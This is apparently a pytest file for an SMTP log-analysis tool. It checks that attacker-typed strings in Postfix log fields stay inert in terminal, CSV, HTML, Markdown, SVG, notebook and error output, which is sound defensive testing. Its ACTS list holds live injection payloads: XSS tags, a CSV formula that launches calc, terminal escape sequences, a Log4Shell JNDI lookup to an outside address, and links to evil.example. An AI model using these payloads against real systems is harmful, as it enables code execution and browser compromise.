"""What strangers typed does nothing wherever it is shown: terminal, HTML, Markdown, SVG, CSV, notebook, error message."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from typing import TYPE_CHECKING
from xml.etree import ElementTree as ET

import matplotlib as mpl
import polars as pl
import pytest
from markdown_it import MarkdownIt

import smtplogs as sl
from commands import exit_code
from smtplogs import cli

if TYPE_CHECKING:
    from pathlib import Path

ACTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></svg><svg/onload=alert(1)>",
    "]]></svg><script>",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\x1b[31mred",
    "\x1b]8;;http://evil.example\x07x",
    "\x9b2J",
    "ann\u202emoc.elpmaxe",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "`a`|b|*c*",
    "{{7*7}}{%raw%}",
    "$\\frac{1}{0",
    "[red]x[/red][link=http://evil.example]",
    "${jndi:ldap://192.0.2.66/a}",
    "%s%n%x",
)

NO_LOG = {"causes", "columns", "samples", "sample", "formats", "unpack", "lab", "notebook", "simulate", "probe", "compare-probe"}  # fmt: skip
ON_LOGS = ("read", "triage", "coverage", "findings", "lockouts", "exposure")
OTHERS = {"plot", "report", "parse", "share", "watch", "verify", "explain", "geo", "evidence", "coverage", "triage"}

LIVE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]")
"""Characters by which text moves, hides or recolours other text."""


def log_lines() -> list[str]:
    """Return a log in which each of them is a name, a HELO, a sender, a reply of a relay and a mechanism."""
    lines, n = [], 0

    def say(program: str, text: str) -> None:
        nonlocal n
        n += 1
        lines.append(f"2026-11-03T10:{n // 60:02d}:{n % 60:02d}Z mx1 {program}: {text}")

    for i, evil in enumerate(ACTS):
        pid, peer = 100 + i, f"pc.example.net[203.0.113.{10 + i}]"
        word = evil.replace(" ", "_")
        sender = word.replace("<", "").replace(">", "")  # with those a MAIL command is refused as such
        say(f"postfix/submission/smtpd[{pid}]", f"connect from {peer}")
        for _ in range(6):
            failed = "SASL LOGIN authentication failed: (reason unavailable), sasl_username="
            say(f"postfix/submission/smtpd[{pid}]", f"warning: {peer}: {failed}{evil}@example.com")
        rejected = "554 5.7.1 <b@example.org>: Relay access denied"
        say(
            f"postfix/submission/smtpd[{pid}]",
            f"NOQUEUE: reject: RCPT from {peer}: {rejected}; from=<{sender}> to=<b@example.org> proto=ESMTP helo=<{word}>",
        )
        said = f"host relay.example.net[198.51.100.25] said: 535 5.7.8 {evil} (in reply to AUTH PLAIN command)"
        say(
            f"postfix/smtp[{pid}]",
            f"4A{i:02d}: to=<a@example.org>, relay=relay.example.net[198.51.100.25]:587, delay=1, "
            f"delays=0/0/0/1, dsn=5.7.8, status=deferred ({said})",
        )
        say(f"postfix/submission/smtpd[{pid}]", f"what authentication failed is this {evil}")
        say(f"postfix/submission/smtpd[{pid}]", f"disconnect from {peer} ehlo=1 auth=0/6 rcpt=0/1 quit=1 commands=2/9")
    return lines


@pytest.fixture(scope="module")
def log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A log whose own name is hostile too."""
    path = tmp_path_factory.mktemp("logs") / '=<img src=x onerror=alert(1)>\x1b[31m[x](http:evil)|`".log'
    path.write_bytes("".join(f"{text}\n" for text in log_lines()).encode())
    return path


@pytest.fixture(scope="module")
def events(log: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("events") / "events.parquet"
    exit_code("read", log, "-o", out)
    return out


def inert_csv(text: str) -> None:
    """Assert that no cell is a formula, and no character moves another."""
    assert not LIVE.search(text.replace("\r\n", "\n")), LIVE.search(text)
    head, *rows = csv.reader(io.StringIO(text))
    assert all(re.fullmatch("@?[a-z_.0-9]+", name) for name in head)  # the @timestamp of ECS is no formula by itself
    for row in rows:
        for cell in row:
            assert not re.match(r"\s*[=+\-@](?![0-9.]+$)", cell), cell


class Page(HTMLParser):
    """Tags, and attributes that act, of a page or fragment."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.acts: list[tuple[str, str | None]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Keep the tag and what acts in it."""
        self.tags.add(tag)
        self.acts += [
            (k, v) for k, v in attrs
            if k.startswith("on") or (k in ("src", "href", "srcset", "action", "data") and not (v or "").startswith(("#", "data:image/")))
        ]  # fmt: skip


def test_the_log_is_read_as_what_it_is(log: Path) -> None:
    found = sl.read(log)

    assert found.filter(outcome="failure", side="server")["count"].sum() == 6 * len(ACTS)
    for column in ("user", "helo", "sender"):
        assert found[column].drop_nulls().n_unique() == len(ACTS), column
    assert found.filter(side="client").height == len(ACTS)


def test_every_command_is_tried() -> None:
    assert {n for n in cli.app if not n.startswith("-")} >= NO_LOG | OTHERS | set(ON_LOGS)


@pytest.mark.parametrize("command", sorted({n for n in cli.app if not n.startswith("-")} - NO_LOG - OTHERS))
def test_commands_print_and_write_what_does_nothing(
    events: Path, tmp_path: Path, command: str, capsys: pytest.CaptureFixture[str]
) -> None:
    exit_code(command, events)
    said = capsys.readouterr()
    exit_code(command, events, "-o", tmp_path / "out.csv")
    exit_code(command, events, "--json")
    as_json = capsys.readouterr().out

    inert_csv(said.out)
    inert_csv((tmp_path / "out.csv").read_text("utf-8"))
    assert as_json.isascii()
    assert not LIVE.search(said.err + as_json)


@pytest.mark.parametrize("command", ON_LOGS)
@pytest.mark.parametrize("width", [60, 200])
def test_a_terminal_sees_no_control_character_of_the_log(
    log: Path, command: str, width: int, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """With colours of our own: apart from those no escape is left, and no link."""
    monkeypatch.setenv("FORCE_COLOR", "1")
    monkeypatch.setenv("COLUMNS", str(width))
    exit_code(command, log)
    said = "".join(capsys.readouterr())
    shown = re.sub(r"\x1b\[[0-9;]*m", "", said)

    assert said
    assert not LIVE.search(shown), LIVE.search(shown)
    assert "\x1b]8" not in said
    assert "\x1b[31mred" not in said


def test_the_page_of_a_report(log: Path, tmp_path: Path) -> None:
    exit_code("report", log, "-o", tmp_path / "r.html")
    page = Page((tmp_path / "r.html").read_text("utf-8"))

    assert not page.tags & {"script", "iframe", "object", "embed", "form", "base", "link"}
    assert page.acts == []


def test_the_markdown_of_a_report(log: Path, tmp_path: Path) -> None:
    exit_code("report", log, "-o", tmp_path / "r.md")
    text = (tmp_path / "r.md").read_text("utf-8")
    kinds = {token.type for part in MarkdownIt("commonmark").parse(text) for token in (part, *(part.children or ()))}

    assert not kinds & {"html_block", "html_inline", "link_open", "image"}
    assert not LIVE.search(text)


@pytest.mark.parametrize("chart", sorted(n.removeprefix("plot_") for n in sl.__all__ if n.startswith("plot_")))
def test_charts_are_pictures_and_nothing_else(events: Path, tmp_path: Path, chart: str) -> None:
    with mpl.rc_context({"svg.fonttype": "none"}):
        exit_code("plot", chart, events, "-o", tmp_path / "c.svg")
    if not (tmp_path / "c.svg").exists():
        pytest.skip("these events give nothing to draw")
    text = (tmp_path / "c.svg").read_text("utf-8")
    tree = ET.fromstring(text)
    tags = {element.tag.rpartition("}")[2] for element in tree.iter()}
    links = {
        v for e in tree.iter() for k, v in e.attrib.items() if k.endswith("href") and not v.startswith(("#", "data:"))
    }
    acts = {k for element in tree.iter() for k in element.attrib if k.rpartition("}")[2].startswith("on")}

    assert not tags & {"script", "a", "foreignObject", "iframe", "animate", "set"}
    assert (links, acts) == (set(), set())
    assert not LIVE.search(text)


def test_no_frame_in_a_notebook_holds_live_html(log: Path) -> None:
    """Frames of Polars and of pandas, and the tables behind charts."""
    found, coverage, traffic = sl.read(log, full=True)
    every = [found, coverage, traffic, sl.findings(found, coverage=coverage, traffic=traffic), sl.summary(found), sl.sessions(found)]  # fmt: skip
    with pl.Config(tbl_rows=1000, tbl_cols=100, fmt_str_lengths=10_000, fmt_table_cell_list_len=100):
        polars_ = [t._repr_html_() for t in every]
    pandas_ = [t.to_pandas()._repr_html_() for t in every]  # pyright: ignore[reportCallIssue, reportOptionalCall]

    assert any("onerror" in text for text in polars_)
    for text in (*polars_, *pandas_):
        page = Page(str(text))
        assert page.tags <= {"div", "style", "small", "table", "thead", "tbody", "tr", "th", "td", "p"}, page.tags
        assert page.acts == []


@pytest.mark.parametrize("evil", ACTS)
def test_an_explanation_on_a_terminal(evil: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    monkeypatch.setenv("FORCE_COLOR", "1")
    line = next(text for text in log_lines() if f"sasl_username={evil}" in text)
    exit_code("explain", line)
    said = "".join(capsys.readouterr())

    assert not LIVE.search(re.sub(r"\x1b\[[0-9;]*m", "", said))
    assert "\x1b]8" not in said


@pytest.mark.parametrize("command", ["read", "triage", "parse", "report", "share"])
def test_errors_that_name_a_hostile_path(tmp_path: Path, command: str, capsys: pytest.CaptureFixture[str]) -> None:
    name = tmp_path / "no\x1b[31m\x9bsuch\u202efile"
    code = exit_code(command, name, *(["-o", tmp_path / "o.html"] if command == "report" else ["-o", tmp_path / "o.parquet"] if command in ("parse", "share") else []))  # fmt: skip
    said = capsys.readouterr()

    assert code == 2
    assert not LIVE.search(re.sub(r"\x1b\[[0-9;]*m", "", said.err.replace("\n", ""))), said.err
